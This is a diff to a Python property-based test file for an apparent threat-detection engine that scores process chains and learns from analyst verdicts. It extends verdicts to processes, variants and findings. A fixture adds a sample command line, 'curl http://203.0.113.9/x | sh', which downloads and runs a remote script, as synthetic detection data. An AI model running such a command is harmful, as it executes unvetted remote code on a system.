@@ -13,16 +13,19 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from engine.domain.verdicts import VERDICTS
 from engine.errors import ModelError
 from engine.jobs.relearn import prepare, relearn
 from engine.progress import Run
 from engine.verdicts.queue import LearntQueue
 from store.base.database import DATABASE
+from store.narrow.record_names import RecordName, locate
 from store.scope.scopes import Scope, parse
+from store.verdicts.subject import OfFinding, OfProcess, OfVariant, Subject
 from store.workspace import Workspace, open_workspace
 from tests.store import samples
 from tests.store.older import make_older
-from tests.store.teaching_samples import read_learnt
+from tests.store.teaching_samples import read_learnt, said_of_variants, teaching_of
 
 FIGURES = {"held_back": 40.0, "malicious": 15.0, "malicious_findings": 12.0, "other_findings": 20.0}
 JUDGED = {"decision": {"accepted": True, "figures": FIGURES}}
@@ -34,11 +37,11 @@ def classifier(workspace: Workspace, mark: int, more: dict[str, Any] | None = No
     return workspace.vault.publish(stage, {"kind": "classifier", "seed": mark} | (JUDGED if more is None else more))
 
 
-def teach(workspace: Workspace, mark: int, case: str = "case") -> tuple[str, dict[str, str]]:
+def teach(workspace: Workspace, mark: int, case: str = "case") -> tuple[str, dict[tuple[str, int], str]]:
     """What the job does, without the LSTM: taught with what holds now, then in use."""
-    taught = {key: said.verdict for key, said in workspace.labels.effective(case).items() if said.verdict != "undetermined"}
+    taught = teaching_of(workspace, case)
     model = classifier(workspace, mark)
-    assert workspace.vault.adopt(case, model, {key: (said, 0.5) for key, said in taught.items()})
+    assert workspace.vault.adopt(case, model, {name: (said, 0.5) for name, said in taught.items()})
     return model, taught
 
 
@@ -48,10 +51,13 @@ def in_use(workspace: Workspace, case: str = "case") -> str | None:
 
 @pytest.fixture(scope="module")
 def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[list[Workspace], list[str]]]:
-    """Twelve chains on two hosts, scored; the workspace opened twice."""
+    """Twelve chains on two hosts, one with two kinds of command lines, scored; the workspace opened twice."""
     space = open_workspace(tmp_path_factory.mktemp("taught") / "w")
     events = [samples.event(1), samples.event(1, host="DB"), samples.event(40, 1, host="DB", image="C:\\Apps\\only.exe")]
     events += [samples.event(n, 1, image=f"C:\\Apps\\a{n}.exe") for n in range(2, 12)]
+    events += [
+        samples.event(50 + n, 1, image="C:\\Apps\\a2.exe", command_line="curl http://203.0.113.9/x | sh") for n in range(3)
+    ]
     samples.fill(space, events)
     samples.score(space, grouped=True)
     other = open_workspace(space.folder)
@@ -62,7 +68,7 @@ def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[list[Work
 
 def forget(workspace: Workspace) -> None:
     with workspace.write() as connection:
-        for table in ("label_event", "label_current", "classifier_use", "learnt_queue"):
+        for table in ("label_event", "label_current", "process_verdict", "classifier_use", "learnt_queue"):
             connection.exec_driver_sql(f"DELETE FROM {table}")
         connection.exec_driver_sql("DELETE FROM model WHERE kind = 'classifier'")
         connection.commit()
@@ -75,6 +81,7 @@ acts = st.lists(
             st.sampled_from([None, "malicious", "benign", "false_positive", "undetermined"]),
             st.sampled_from([Scope(), Scope(), Scope(host="DB"), Scope(prefix=1)]),
         ),
+        st.tuples(st.sampled_from(["process", "variant", "finding"]), st.integers(0, 30), st.sampled_from([None, *VERDICTS])),
         st.sampled_from(["undo", "undo", "redo", "train", "train", "restart"]),
     ),
     min_size=2,
@@ -107,8 +114,26 @@ def learn(workspace: Workspace) -> LearntQueue | None:
     return read_learnt(workspace, "case")
 
 
+def process_of(workspace: Workspace, name: RecordName) -> int:
+    """The process of a record."""
+    with workspace.read() as connection:
+        return locate(connection, 1, [name])[name]
+
+
+def subject(workspace: Workspace, kind: str, number: int) -> Subject:
+    """What a verdict narrower than a chain is on."""
+    base = workspace.teaching.load_queue("case")
+    variants, recorded = base.variants, base.table.row[base.table.recorded > 0] if base.table is not None else []
+    if kind == "process":
+        return OfProcess(int(recorded[number % len(recorded)]))
+    if kind == "variant":
+        row = number % len(variants)
+        return OfVariant(base.corpus.keys[variants.chain[row]], int(variants.shape[row]))
+    return OfFinding(1 + number % len(base.finding_score))
+
+
 @pytest.mark.usefixtures("unlearnt")
-@settings(max_examples=40, deadline=None)
+@settings(max_examples=25, deadline=None)
 @given(history=acts)
 def test_any_history_leaves_what_replaying_the_effective_verdicts_leaves(
     shared: tuple[list[Workspace], list[str]], history: list[Any]
@@ -116,7 +141,7 @@ def test_any_history_leaves_what_replaying_the_effective_verdicts_leaves(
     """Same classifier in use, same queue: of verdicts, trainings, undos and redos only what holds in the end counts."""
     (workspace, other), keys = shared
     forget(workspace)
-    trained: list[tuple[str, dict[str, str]]] = []
+    trained: list[tuple[str, dict[tuple[str, int], str]]] = []
     for act in history:
         if act == "train":
             trained.append(teach(workspace, len(trained)))
@@ -124,11 +149,13 @@ def test_any_history_leaves_what_replaying_the_effective_verdicts_leaves(
             workspace, other = other, workspace
         elif isinstance(act, str):
             getattr(workspace.labels, act)("case")
+        elif isinstance(act[0], str):
+            workspace.labels.give("case", subject(workspace, *act[:2]), act[2], overwrite=True)
         else:
             places, verdict, scope = act
             chosen = [keys[place] for place in places]
             workspace.labels.set("case", chosen, verdict, scope=scope)
-        now = {key: said.verdict for key, said in workspace.labels.effective("case").items()}
+        now = said_of_variants(workspace)
         standing = [model for model, taught in trained if taught.items() <= now.items()]
         assert in_use(workspace) == (standing[-1] if standing else None)
     held = workspace.labels.current("case")
@@ -136,7 +163,11 @@ def test_any_history_leaves_what_replaying_the_effective_verdicts_leaves(
     alive = [(number, model) for number, (model, _) in enumerate(trained) if model == in_use(workspace)]
     forget(workspace)
     for label in held:
-        workspace.labels.set("case", [label.chain_key], label.verdict, scope=parse(label.scope))
+        scope = parse(label.scope)
+        if scope.process is None:
+            workspace.labels.set("case", [label.chain_key], label.verdict, scope=scope)
+        else:
+            workspace.labels.give("case", OfProcess(process_of(workspace, scope.process)), label.verdict, overwrite=True)
     if alive:
         teach(workspace, alive[-1][0])
     again = learn(workspace)
@@ -162,7 +193,7 @@ def test_a_verdict_that_is_taken_back_while_a_classifier_is_trained_keeps_it_out
     scored: tuple[Workspace, list[str]],
 ) -> None:
     workspace, keys = scored
-    taught = {key: (said.verdict, 0.1) for key, said in workspace.labels.effective("case").items()}
+    taught = {name: (said, 0.1) for name, said in teaching_of(workspace).items()}
     model = classifier(workspace, 1)
     workspace.labels.set("case", keys[:1], "benign")
     assert not workspace.vault.adopt("case", model, taught)
